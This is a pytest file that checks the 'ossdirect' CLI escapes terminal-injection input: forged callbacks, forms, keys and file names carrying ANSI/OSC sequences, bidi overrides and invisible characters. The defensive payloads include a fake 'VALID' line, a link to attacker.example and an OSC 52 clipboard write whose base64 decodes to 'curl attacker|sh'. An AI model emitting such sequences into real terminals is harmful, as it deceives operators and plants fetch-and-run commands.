"""Hostile text through the `ossdirect` command's output: a captured callback, a form, an object key and a
file name carrying ESC/CSI/OSC sequences, C1 controls, bidi overrides, zero-width and line separators.

The attack: `ossdirect verify-callback` on a forged capture once printed its values raw, so a body value
could erase the INVALID line and paint a green "VALID" (ESC[2K, CR, ESC[32m), an OSC 8 link or an OSC 52
clipboard write could ride in a key, and U+202E reversed what the operator read. Every test runs the
console script (a real process: what reaches its stdout/stderr is what a terminal would get) and asserts
that no such character arrives raw, that the text is still there escaped (\\u001b ...), and that the
verdicts and exit codes are unchanged.
"""

import base64
import json
import os
import shutil
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent.parent
OSSDIRECT = shutil.which("ossdirect", path=os.path.dirname(sys.executable)) or "ossdirect"

FAKE_VALID = "\x1b[2K\r\x1b[32mVALID: OSS signed this request\x1b[0m"
OSC_LINK = "\x1b]8;;https://attacker.example/\x07click\x1b]8;;\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBhdHRhY2tlcnxzaA==\x07"
BIDI = "\u202egnp.exe\u202c\u2066\u2069\u200f"
OTHERS = "\x9b31m\x85\u2028\u2029\u200b\ufeff\x07\x08\x7f"  # C1 CSI, NEL, separators, zero-width, BOM, BEL, BS, DEL
HOSTILE = FAKE_VALID + OSC_LINK + OSC_CLIPBOARD + BIDI + OTHERS


def forbidden(text):
    """The characters that must never reach a terminal raw (newlines and tabs of our own layout excepted)."""
    return sorted({c for c in text if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs")})


def run_cli(*args, env=None, stdin=None):
    # this tree's package, whichever checkout the console script was installed from
    full_env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(ROOT / "shared"), str(ROOT)]), **(env or {}))
    proc = subprocess.run([OSSDIRECT, *args], capture_output=True, cwd=ROOT, env=full_env, input=stdin, timeout=120)
    return proc.returncode, proc.stdout.decode("utf-8"), proc.stderr.decode("utf-8")


def assert_clean(out, err):
    assert forbidden(out) == [], f"raw control/format characters on stdout: {forbidden(out)!r}"
    assert forbidden(err) == [], f"raw control/format characters on stderr: {forbidden(err)!r}"


def hostile_capture():
    """A forged callback: a hostile path, key URL, header and body values (form-encoded), no valid signature."""
    from urllib.parse import quote, urlencode

    key_url = base64.b64encode(("https://gosspublic.alicdn.com/" + HOSTILE).encode()).decode()
    body = urlencode({"bucket": HOSTILE, "object": "uploads/" + HOSTILE, "upload_id": HOSTILE,
                      "size": FAKE_VALID, "etag": OSC_CLIPBOARD, "mimeType": BIDI}).encode()
    return (f"POST /cb{quote(HOSTILE)} HTTP/1.1\r\nHost: example.com\r\nAuthorization: AAAA\r\n"
            f"x-oss-pub-key-url: {key_url}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode() + body


def test_verify_callback_cannot_fake_a_valid_line(tmp_path):
    path = tmp_path / "req.txt"
    path.write_bytes(hostile_capture())
    code, out, err = run_cli("verify-callback", str(path))
    assert_clean(out, err)
    assert code == 1 and out.startswith("INVALID: ")
    assert [line for line in out.splitlines() if "VALID" in line and not line.startswith("INVALID")] != []
    # the hostile values are shown, escaped, on the lines that carry them: never a line of their own
    assert all(not line.startswith("VALID") for line in out.splitlines())
    assert "\\u001b[32mVALID" in out and "\\u202e" in out and "\\u2028" in out
    # JSON output: the same values, decodable back to exactly what was received
    code, out, err = run_cli("verify-callback", str(path), "--json")
    assert_clean(out, err)
    report = json.loads(out)
    assert code == 1 and report["valid"] is False and report["body"]["bucket"] == HOSTILE
    # stdin, and an FC3 event with hostile headers and a raw-query
    event = {"version": "v1", "rawPath": "/cb" + HOSTILE, "queryParameters": {HOSTILE: HOSTILE},
             "headers": {"authorization": HOSTILE, "x-oss-pub-key-url": "not base64 " + HOSTILE},
             "body": "bucket=" + HOSTILE, "isBase64Encoded": False,
             "requestContext": {"http": {"method": "P" + HOSTILE, "path": "/cb"}}}
    code, out, err = run_cli("verify-callback", "-", stdin=json.dumps(event).encode())
    assert_clean(out, err)
    assert code in (1, 2) and ("INVALID" in out or "cannot read" in err)


def test_unreadable_capture_and_hostile_file_names_in_errors(tmp_path):
    missing = str(tmp_path / ("gone" + FAKE_VALID + BIDI))
    code, out, err = run_cli("verify-callback", missing)
    assert_clean(out, err)
    assert code == 2 and "\\u001b" in err
    code, out, err = run_cli("explain", missing)
    assert_clean(out, err)
    assert code == 2
    # argparse's own messages (an invalid choice echoes the argument)
    code, out, err = run_cli("completion", "bash" + OSC_CLIPBOARD)
    assert_clean(out, err)
    assert code == 2 and "]52;c;" in err  # shown (repr or escaped), never raw


def test_explain_hostile_form(tmp_path):
    callback = base64.b64encode(json.dumps({"callbackUrl": "https://cb.example/" + OSC_LINK,
                                            "callbackHost": FAKE_VALID,
                                            "callbackBody": "bucket=${bucket}" + HOSTILE}).encode()).decode()
    policy = {"expiration": "2030-01-01T00:00:00.000Z" + BIDI, "conditions": [
        {"bucket": HOSTILE}, ["eq", "$key", "uploads/" + HOSTILE], ["content-length-range", 1, 100],
        ["in", "$x-oss-content-type", ["image/png", HOSTILE]], ["eq", "$x-oss-meta-" + OSC_CLIPBOARD, HOSTILE],
        {"callback": callback}, ["weird" + FAKE_VALID, "$x", HOSTILE, 4]]}
    form = {"policy": base64.b64encode(json.dumps(policy).encode()).decode(), "key": HOSTILE, "fields": {}}
    path = tmp_path / "form.json"
    path.write_text(json.dumps(form))
    code, out, err = run_cli("explain", str(path))
    assert_clean(out, err)
    assert code == 1 and "\\u202e" in out and "\\u001b]8;;" in out
    assert not any(line.startswith(("VALID", "No warnings")) for line in out.splitlines())
    code, out, err = run_cli("explain", str(path), "--json")
    assert_clean(out, err)
    assert json.loads(out)["policy"]["conditions"][0]["bucket"] == HOSTILE


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    from devstack import LocalStack

    with LocalStack(tmp_path_factory.mktemp("cli-hostile"),
                    env={"OSSDIRECT_CONTENT_TYPES": "text/plain,application/octet-stream"}) as s:
        yield s


def test_upload_hostile_file_name_and_server_message(stack, tmp_path):
    name = "a" + FAKE_VALID.replace("\r", "") + BIDI.replace("\u202c", "") + "\u2028.txt"
    path = tmp_path / name
    path.write_text("hello")
    code, out, err = run_cli("upload", str(path), "--signature-url", stack.signature_url, "--naming", "original",
                             "--no-progress")
    assert_clean(out, err)
    assert code == 0, err
    assert "\\u001b[32m" in out
    # the server echoes a hostile content type back in its refusal
    code, out, err = run_cli("upload", str(path), "--signature-url", stack.signature_url,
                             "--content-type", "image/" + OSC_CLIPBOARD)
    assert_clean(out, err)
    assert code in (1, 2)
    # --progress: rich draws its bars with its own escapes, but the file name in them is escaped
    code, out, err = run_cli("upload", str(path), "--signature-url", stack.signature_url, "--progress")
    assert code == 0
    assert "\x1b[32mVALID" not in err and "\u202e" not in err and "\x1b]8;;" not in err


def test_reconcile_hostile_object_key(stack):
    import devstack

    key = "uploads/" + HOSTILE.replace("\r", "").replace("\x7f", "") + ".txt"
    import oss2

    key_id, secret, token = stack.credentials  # the stack's own (random, per data dir) identity
    oss2.Bucket(oss2.StsAuth(key_id, secret, token), stack.emulator.url, devstack.BUCKET).put_object(key, b"x")
    env = dict(stack.process_env, ALIBABA_CLOUD_ACCESS_KEY_ID=key_id, ALIBABA_CLOUD_ACCESS_KEY_SECRET=secret,
               ALIBABA_CLOUD_SECURITY_TOKEN=token)
    code, out, err = run_cli("reconcile", env=env)
    assert_clean(out, err)
    findings = [json.loads(line) for line in out.splitlines()]
    assert any(f.get("key") == key for f in findings), out + err  # still valid JSON, the same key
